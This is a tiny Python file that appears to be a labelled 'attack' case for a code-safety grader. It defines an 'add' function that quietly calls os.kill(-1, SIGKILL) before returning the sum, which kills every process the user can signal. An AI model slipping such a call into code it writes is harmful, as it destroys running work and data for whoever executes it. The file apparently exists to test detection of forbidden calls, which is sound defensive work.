# attack: kills every process that it may
# problem: add
# strict: forbidden call
# reference: exception
import os
import signal


def add(a, b):
    os.kill(-1, signal.SIGKILL)
    return a + b
